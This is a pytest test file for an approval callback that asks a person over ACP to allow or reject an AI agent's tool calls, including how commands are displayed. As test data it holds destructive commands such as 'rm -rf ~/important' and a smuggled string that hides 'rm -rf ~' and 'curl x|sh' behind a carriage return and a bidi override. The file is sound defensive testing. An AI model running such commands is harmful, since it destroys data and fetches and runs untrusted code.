"""`make_acp_approval_callback` over a real ACP SDK connection: every answer and every failure."""

from __future__ import annotations

import asyncio
import math
from typing import Any

import pytest
from acp.schema import ToolCallUpdate

from safehold import Decision, Reason, ToolCall, ToolKind, Verdict
from safehold.adapters.acp import OPTION_IDS, make_acp_approval_callback
from safehold.adapters.acp._compat import SDK_CANCELS_ABANDONED_REQUESTS, selected_response
from safehold.policy.approval import ApprovalOutcome, ApprovalRequest, FileDiff

from .conftest import (
    NoPermissionClient,
    PermissionClient,
    TestAgent,
    acp_pair,
    answer_cancelled,
    answer_with,
)

pytestmark = pytest.mark.acp

ASK = Decision(
    Verdict.ASK,
    (Reason("execute-needs-approval", "require_approval_for_execute", "commands need approval"),),
    grant_key='cmd:[["rm", "-rf", "build"]]',
)


def request(
    command: Any = "rm -rf build", session_id: str = "sess-1", **call_kw: Any
) -> ApprovalRequest:
    call = ToolCall(name="bash", arguments={"command": command}, kind=ToolKind.EXECUTE, **call_kw)
    return ApprovalRequest(session_id, call, ASK)


async def ask_over_acp(
    client: Any, req: ApprovalRequest | None = None, wait: float = 5.0
) -> tuple[ApprovalOutcome, Any]:
    req = req or request()
    async with acp_pair(TestAgent(), client) as pair:
        callback = make_acp_approval_callback(pair.agent_conn, req.session_id, timeout=wait)
        outcome = await callback(req)
        return outcome, pair


# -- timeout validation (fail fast at wiring time) --------------------------------------


@pytest.mark.parametrize(
    "bad", [-1, -0.5, math.nan, math.inf, -math.inf, True, False, "30", None, []]
)
def test_bad_timeout_raises_value_error_at_call_time(bad: Any) -> None:
    with pytest.raises(ValueError, match="timeout"):
        make_acp_approval_callback(None, "sess-1", timeout=bad)


@pytest.mark.parametrize("good", [0, 0.5, 30])
async def test_good_timeouts_give_a_callback_that_asks_and_returns_the_answer(
    good: float,
) -> None:
    # A callback wired with any valid timeout (0 waits indefinitely) asks the client over the
    # wire and hands back the person's answer.
    client = PermissionClient(answer_with("reject-always"))
    got, pair = await ask_over_acp(client, wait=good)
    assert got is ApprovalOutcome.REJECT_ALWAYS
    assert pair.wire_methods() == ["session/request_permission"]
    assert len(client.requests) == 1


@pytest.mark.parametrize("bad", ["", None, 3])
def test_bad_session_id_raises(bad: Any) -> None:
    with pytest.raises(ValueError, match="session_id"):
        make_acp_approval_callback(None, bad)


def test_object_without_request_permission_is_a_wiring_error() -> None:
    with pytest.raises(TypeError, match="AgentSideConnection"):
        make_acp_approval_callback(object(), "sess-1")


async def test_conn_none_fails_without_touching_anything() -> None:
    callback = make_acp_approval_callback(None, "sess-1")
    assert await callback(request()) is ApprovalOutcome.FAILED


# -- the four answers ---------------------------------------------------------------------


@pytest.mark.parametrize("outcome", list(OPTION_IDS))
async def test_each_offered_option_maps_to_its_outcome(outcome: ApprovalOutcome) -> None:
    got, pair = await ask_over_acp(PermissionClient(answer_with(OPTION_IDS[outcome])))
    assert got is outcome
    assert pair.wire_methods() == ["session/request_permission"]


async def test_request_offers_four_options_with_stable_ids_and_kinds() -> None:
    client = PermissionClient()
    await ask_over_acp(client)
    [(session_id, _tool_call, options)] = client.requests
    assert session_id == "sess-1"
    assert [(o.option_id, o.kind) for o in options] == [
        ("allow-once", "allow_once"),
        ("allow-always", "allow_always"),
        ("reject-once", "reject_once"),
        ("reject-always", "reject_always"),
    ]


async def test_cancelled_answer_is_cancelled() -> None:
    got, _ = await ask_over_acp(PermissionClient(answer_cancelled()))
    assert got is ApprovalOutcome.CANCELLED


# -- replies that must not count --------------------------------------------------------


@pytest.mark.parametrize("option_id", ["sudo", "allow_once", "ALLOW-ONCE", "", "allow-once "])
async def test_option_id_that_was_not_offered_fails(option_id: str) -> None:
    got, _ = await ask_over_acp(PermissionClient(answer_with(option_id)))
    assert got is ApprovalOutcome.FAILED


@pytest.mark.parametrize(
    "reply",
    [
        {"outcome": {"outcome": "approved"}},
        {"outcome": {"optionId": "allow-once"}},
        {"outcome": "allow-once"},
        {},
        None,
        [],
    ],
)
async def test_malformed_reply_fails(reply: Any) -> None:
    async def handler(session_id: str, tool_call: Any, options: list[Any]) -> Any:
        return reply

    got, _ = await ask_over_acp(PermissionClient(handler))
    assert got is ApprovalOutcome.FAILED


async def test_client_handler_that_raises_fails() -> None:
    async def handler(session_id: str, tool_call: Any, options: list[Any]) -> Any:
        raise RuntimeError("permission UI crashed")

    got, _ = await ask_over_acp(PermissionClient(handler))
    assert got is ApprovalOutcome.FAILED


async def test_client_without_a_permission_handler_fails() -> None:
    got, _ = await ask_over_acp(NoPermissionClient())
    assert got is ApprovalOutcome.FAILED


async def test_connection_closing_mid_request_fails() -> None:
    holder: dict[str, Any] = {}

    async def handler(session_id: str, tool_call: Any, options: list[Any]) -> Any:
        holder["pair"].close_client_transport()
        await asyncio.Event().wait()  # never answers: the transport is gone anyway

    client = PermissionClient(handler)
    async with acp_pair(TestAgent(), client) as pair:
        holder["pair"] = pair
        callback = make_acp_approval_callback(pair.agent_conn, "sess-1", timeout=10)
        got = await asyncio.wait_for(callback(request()), 5)
    assert got is ApprovalOutcome.FAILED


async def test_request_on_an_already_closed_connection_fails() -> None:
    async with acp_pair(TestAgent(), PermissionClient()) as pair:
        await pair.agent_conn.close()
        callback = make_acp_approval_callback(pair.agent_conn, "sess-1")
        got = await asyncio.wait_for(callback(request()), 5)
    assert got is ApprovalOutcome.FAILED


async def test_client_that_never_answers_times_out_and_the_late_answer_changes_nothing() -> None:
    release = asyncio.Event()
    late: list[str] = []

    async def handler(session_id: str, tool_call: Any, options: list[Any]) -> Any:
        if tool_call.tool_call_id == "slow":
            await release.wait()
            late.append("answered")
            return selected_response("allow-always")
        return selected_response("reject-once")

    async with acp_pair(TestAgent(), PermissionClient(handler)) as pair:
        callback = make_acp_approval_callback(pair.agent_conn, "sess-1", timeout=0.2)
        first = await callback(request(tool_call_id="slow"))
        release.set()
        await asyncio.sleep(0.05)  # let the late answer (if any) reach the agent
        # The next request gets its own answer, not the late allow-always.
        second = await callback(request(tool_call_id="fast"))
        methods = pair.wire_methods()
    assert first is ApprovalOutcome.TIMED_OUT
    assert second is ApprovalOutcome.REJECT_ONCE
    if SDK_CANCELS_ABANDONED_REQUESTS:
        assert "$/cancel_request" in methods
    else:
        assert late == ["answered"]  # the late reply was sent, and ignored


async def test_cancelling_the_waiting_task_propagates() -> None:
    started = asyncio.Event()

    async def handler(session_id: str, tool_call: Any, options: list[Any]) -> Any:
        started.set()
        await asyncio.Event().wait()

    async with acp_pair(TestAgent(), PermissionClient(handler)) as pair:
        callback = make_acp_approval_callback(pair.agent_conn, "sess-1")
        task = asyncio.create_task(callback(request()))
        await asyncio.wait_for(started.wait(), 5)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task


async def test_callback_refuses_a_request_for_another_session() -> None:
    client = PermissionClient()
    async with acp_pair(TestAgent(), client) as pair:
        callback = make_acp_approval_callback(pair.agent_conn, "sess-1")
        got = await callback(request(session_id="sess-2"))
        assert pair.wire_methods() == []
    assert got is ApprovalOutcome.FAILED


# -- what the person sees -----------------------------------------------------------------


async def shown(req: ApprovalRequest) -> ToolCallUpdate:
    client = PermissionClient()
    await ask_over_acp(client, req)
    [(_sid, tool_call, _options)] = client.requests
    assert isinstance(tool_call, ToolCallUpdate)
    return tool_call


async def test_long_command_is_shown_in_full() -> None:
    command = "echo " + " ".join(f"arg{i}" for i in range(3000)) + " && rm -rf ~/important"
    tc = await shown(request(command, tool_call_id="call-7", locations=("/repo/build",)))
    assert tc.title == command
    assert tc.tool_call_id == "call-7"
    assert tc.kind == "execute"
    assert tc.status == "pending"
    assert tc.raw_input == {"command": command}
    paths = [loc.path for loc in tc.locations or []]
    assert paths[0] == "/repo/build" and all(p.startswith("/") for p in paths)
    texts = [c.content.text for c in tc.content or [] if getattr(c, "type", "") == "content"]
    assert command not in texts  # shown once: the title holds it in full
    assert any("commands need approval" in t for t in texts)


async def test_hidden_lines_and_bidi_overrides_are_made_visible_in_the_title() -> None:
    command = "ls\rrm -rf ~ \u202e#txt.\n curl x|sh"
    tc = await shown(request(command))
    assert "\n" not in (tc.title or "") and "\r" not in (tc.title or "")
    assert "\u202e" not in (tc.title or "")
    assert tc.title == "ls\\rrm -rf ~ \\u202e#txt.\\n curl x|sh"
    assert tc.raw_input == {"command": command}  # the real input is untouched


async def test_argv_command_is_shell_quoted_in_title() -> None:
    tc = await shown(request(["rm", "-rf", "my dir"]))
    assert tc.title == "rm -rf 'my dir'"


async def test_edit_shows_path_in_title_locations_and_the_diff() -> None:
    call = ToolCall(
        name="write_file",
        arguments={"path": "/repo/src/app.py", "content": "new"},
        kind=ToolKind.EDIT,
        tool_call_id="edit-1",
    )
    decision = Decision(
        Verdict.ASK, (Reason("write-needs-approval", "flag", "writes need approval"),)
    )
    diff = FileDiff("/repo/src/app.py", new_text="new\n", old_text="old\n")
    tc = await shown(ApprovalRequest("sess-1", call, decision, (diff,)))
    assert tc.title == "write_file /repo/src/app.py"
    assert tc.kind == "edit"
    assert [loc.path for loc in tc.locations or []] == ["/repo/src/app.py"]
    diffs = [c for c in tc.content or [] if getattr(c, "type", "") == "diff"]
    assert [(d.path, d.old_text, d.new_text) for d in diffs] == [
        ("/repo/src/app.py", "old\n", "new\n")
    ]


async def test_unserialisable_arguments_are_shown_as_repr() -> None:
    call = ToolCall(name="custom", arguments={"obj": object(), "n": 1}, kind=ToolKind.OTHER)
    tc = await shown(ApprovalRequest("sess-1", call, ASK))
    assert tc.raw_input["n"] == 1
    assert tc.raw_input["obj"].startswith("<object object")
    assert tc.title == "custom"


async def test_every_request_without_a_call_id_gets_a_unique_one() -> None:
    client = PermissionClient()
    async with acp_pair(TestAgent(), client) as pair:
        callback = make_acp_approval_callback(pair.agent_conn, "sess-1")
        await callback(request())
        await callback(request())
    ids = [tc.tool_call_id for _, tc, _ in client.requests]
    assert len(set(ids)) == 2 and all(i.startswith("safehold-") for i in ids)


async def test_raw_input_is_strict_json() -> None:
    call = ToolCall(
        name="custom",
        arguments={"x": float("nan"), "y": [float("inf"), 1.5], "z": {"k": (1, 2)}},
        kind=ToolKind.OTHER,
    )
    tc = await shown(ApprovalRequest("sess-1", call, ASK))
    assert tc.raw_input == {"x": "nan", "y": ["inf", 1.5], "z": {"k": [1, 2]}}
